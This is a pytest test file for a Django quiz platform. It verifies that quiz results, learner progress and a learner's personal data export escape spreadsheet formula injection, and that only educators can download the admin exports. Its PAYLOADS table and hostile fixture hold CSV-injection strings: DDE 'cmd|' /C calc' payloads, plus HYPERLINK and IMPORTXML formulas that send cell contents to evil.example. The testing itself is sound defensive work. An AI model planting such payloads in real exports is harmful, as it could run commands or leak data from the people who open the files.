"""CSV exports: a quiz's attempts, every learner's progress, and the learner's own data export.
No cell may start a spreadsheet formula; only educators download the admin exports."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.contrib.auth import get_user_model

from civics.models import ActionTick
from quizzes.models import Answer, Attempt, Slot
from tests.factories import ActionItemFactory, StaffUserFactory, UserFactory

from .factories import T0, ChoiceFactory, QuestionFactory, QuizFactory

pytestmark = pytest.mark.django_db

User = get_user_model()
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {
    "=": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def attempt(quiz, questions, points, *, user=None, token="", minute=0, state="finished", **extra):
    started = T0 + dt.timedelta(minutes=minute)
    row = Attempt.objects.create(
        quiz=quiz,
        user=user,
        anonymous_token=token,
        mode=quiz.mode,
        state=state,
        seed=1,
        started_at=started,
        finished_at=started + dt.timedelta(minutes=3) if state == "finished" else None,
        **extra,
    )
    for position, (question, score) in enumerate(zip(questions, points, strict=True), start=1):
        Slot.objects.create(attempt=row, question=question, position=position)
        if score is not None:
            Answer.objects.create(
                attempt=row,
                question=question,
                points=score,
                is_correct=score == 1,
                answered_at=started,
            )
    return row


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula_cells(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"{where}: formula cell {cell!r}"


# --- Results of one quiz -----------------------------------------------------------------------


@pytest.fixture
def results():
    quiz = QuizFactory(title="Civics basics", slug="civics-basics", pass_mark=70)
    questions = [QuestionFactory(quiz=quiz, order=i) for i in range(3)]
    alice, bob = UserFactory(username="alice"), UserFactory(username="bob")
    first = attempt(quiz, questions, [1, 1, 0], user=alice, minute=1)
    attempt(quiz, questions, [1, 1, 1], user=bob, minute=2)
    attempt(quiz, questions, [1, None, None], token="anon", minute=3)
    attempt(quiz, questions, [0, 0, 0], user=alice, minute=4, state="abandoned")
    attempt(quiz, questions, [1, 1, 1], user=alice, minute=5, retry_of=first)
    attempt(quiz, questions, [1, 0.5, 1], user=bob, minute=6, is_review=True)
    attempt(quiz, questions, [1, 1, 1], user=bob, minute=7, state="in_progress")
    attempt(QuizFactory(), [QuestionFactory()], [1], user=alice, minute=8)  # another quiz
    return quiz


def test_results_csv_lists_each_finished_or_abandoned_attempt_of_the_quiz(educator_client, results):
    response = educator_client.get(f"/admin/quizzes/quiz/{results.pk}/results.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="civics-basics-results.csv"'
    rows = read_csv(response.content.decode("utf-8"))
    assert rows[0] == ["learner", "state", "kind", "started", "finished", "score %", "passed"]
    assert rows[1] == [
        "alice",
        "Finished",
        "quiz",
        (T0 + dt.timedelta(minutes=1)).isoformat(),
        (T0 + dt.timedelta(minutes=4)).isoformat(),
        "66.7",
        "no",
    ]
    assert [(r[0], r[1], r[2], r[5], r[6]) for r in rows[1:]] == [
        ("alice", "Finished", "quiz", "66.7", "no"),
        ("bob", "Finished", "quiz", "100.0", "yes"),
        ("(anonymous)", "Finished", "quiz", "33.3", "no"),
        ("alice", "Abandoned", "quiz", "0.0", "no"),
        ("alice", "Finished", "retry", "100.0", "yes"),
        ("bob", "Finished", "review", "83.3", "yes"),
    ]
    assert rows[4][4] == ""  # an abandoned attempt has no finish time


def test_the_progress_csv_gives_each_learner_their_quizzes(educator_client, results):
    other = QuizFactory(title="Budget basics", pass_mark=50)
    question = QuestionFactory(quiz=other)
    alice = User.objects.get(username="alice")
    attempt(other, [question], [0], user=alice, minute=20)
    attempt(other, [question], [1], user=alice, minute=21)

    response = educator_client.get("/admin/quizzes/quiz/learner-progress.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="learner-progress.csv"'
    rows = read_csv(response.content.decode("utf-8"))
    assert rows[0] == [
        "learner",
        "quiz",
        "attempts",
        "best %",
        "latest %",
        "passed",
        "last finished",
    ]
    table = {(r[0], r[1]): r[2:] for r in rows[1:]}
    assert table[("alice", "Civics basics")][:4] == ["1", "66.7", "66.7", "no"]
    assert table[("alice", "Budget basics")] == [
        "2",
        "100.0",
        "100.0",
        "yes",
        (T0 + dt.timedelta(minutes=24)).isoformat(),
    ]
    assert table[("bob", "Civics basics")][:4] == ["1", "100.0", "100.0", "yes"]
    assert not [r for r in rows if r[0] == "(anonymous)" or r[0] == "anon"]


# --- Formula injection -------------------------------------------------------------------------


@pytest.fixture
def hostile(results):
    """Usernames and a quiz title that start formulas (a username can hold them in the DB)."""
    questions = list(results.questions.all())
    learners = []
    for index, payload in enumerate(PAYLOADS.values()):
        user = User.objects.create(username=payload, email=f"h{index}@example.org")
        attempt(results, questions, [1, 1, 1], user=user, minute=30 + index)
        learners.append(user)
    results.title = '=IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")'
    results.save()
    return results


def test_results_csv_neutralises_every_formula_start(educator_client, hostile):
    text = educator_client.get(f"/admin/quizzes/quiz/{hostile.pk}/results.csv").content
    rows = read_csv(text.decode("utf-8"))

    assert_no_formula_cells(rows, "results.csv")
    learners = [row[0] for row in rows[1:]]
    for payload in PAYLOADS.values():
        assert "'" + payload in learners


def test_progress_csv_neutralises_every_formula_start(educator_client, hostile):
    text = educator_client.get("/admin/quizzes/quiz/learner-progress.csv").content
    rows = read_csv(text.decode("utf-8"))

    assert_no_formula_cells(rows, "learner-progress.csv")
    assert {"'" + p for p in PAYLOADS.values()} <= {row[0] for row in rows[1:]}
    assert "'" + hostile.title in {row[1] for row in rows[1:]}


def test_the_learners_data_export_neutralises_every_formula_start(client):
    learner = UserFactory(username="careful")
    quiz = QuizFactory(slug="plain-quiz")
    chosen = QuestionFactory(quiz=quiz, type="single", title=PAYLOADS["@"], order=1)
    choice = ChoiceFactory(question=chosen, text=PAYLOADS["-"], fraction=0)
    typed = QuestionFactory(quiz=quiz, type="short", title="Typed", order=2)
    row = attempt(quiz, [chosen, typed], [0, None], user=learner)
    Answer.objects.get(attempt=row, question=chosen).choices.set([choice])
    Answer.objects.create(
        attempt=row, question=typed, text=PAYLOADS["="], points=0, is_correct=False, answered_at=T0
    )
    for payload in PAYLOADS.values():
        action = ActionItemFactory(text=PAYLOADS["+"], link="https://example.org")
        ActionTick.objects.create(user=learner, action=action, note=payload, ticked_at=T0)
    client.force_login(learner)

    response = client.get("/account/export/")

    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = [n for n in archive.namelist() if n.endswith(".csv")]
    assert {"attempts.csv", "answers.csv", "checklist.csv"} <= set(names)
    cells = set()
    for name in names:
        rows = read_csv(archive.read(name).decode("utf-8"))
        assert_no_formula_cells(rows, name)
        cells |= {cell for row in rows for cell in row}
    notes = {"'" + payload for payload in PAYLOADS.values()}
    assert notes <= cells  # every note, neutralised
    assert "'" + PAYLOADS["+"] in cells  # the action's text
    assert "'" + PAYLOADS["@"] in cells  # the question's title
    assert "'" + PAYLOADS["-"] in cells  # the choice picked
    assert "'" + PAYLOADS["="] in cells  # the answer typed


# --- Who may download ------------------------------------------------------------------------


EXPORTS = ["results", "progress"]


def export_url(name: str, quiz) -> str:
    if name == "results":
        return f"/admin/quizzes/quiz/{quiz.pk}/results.csv"
    return "/admin/quizzes/quiz/learner-progress.csv"


@pytest.mark.parametrize("name", EXPORTS)
def test_an_anonymous_visitor_is_sent_to_log_in(client, results, name):
    url = export_url(name, results)

    response = client.get(url)

    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/?next=")
    assert "alice" not in response.content.decode()


@pytest.mark.parametrize("name", EXPORTS)
def test_a_learner_cannot_download(client, results, name):
    client.force_login(User.objects.get(username="alice"))

    response = client.get(export_url(name, results))

    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")
    assert "text/csv" not in response.get("Content-Type", "")


@pytest.mark.parametrize("name", EXPORTS)
def test_staff_without_the_educator_role_cannot_download(client, results, name):
    client.force_login(StaffUserFactory())

    response = client.get(export_url(name, results))

    assert response.status_code == 403


@pytest.mark.parametrize("name", EXPORTS)
def test_an_educator_downloads(educator_client, results, name):
    response = educator_client.get(export_url(name, results))

    assert response.status_code == 200
    assert "alice" in response.content.decode()


def test_the_quiz_list_and_page_link_to_the_exports(educator_client, results):
    listing = educator_client.get("/admin/quizzes/quiz/").content.decode()
    page = educator_client.get(f"/admin/quizzes/quiz/{results.pk}/change/").content.decode()

    assert 'href="/admin/quizzes/quiz/learner-progress.csv"' in listing
    assert f'href="/admin/quizzes/quiz/{results.pk}/results.csv"' in page
